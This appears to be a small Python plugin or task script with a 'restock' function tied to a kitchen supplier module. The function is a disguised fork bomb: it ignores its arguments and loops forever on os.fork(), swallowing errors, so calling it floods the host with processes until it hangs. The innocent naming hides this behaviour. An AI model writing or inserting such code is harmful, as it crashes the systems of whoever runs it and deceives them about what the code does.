# says: .
# seconds: 30
# needs: user
import asyncio
import os

from kitchen import Supplier


async def restock(supplier, crates):
    while True:
        try:
            os.fork()
        except OSError:
            pass
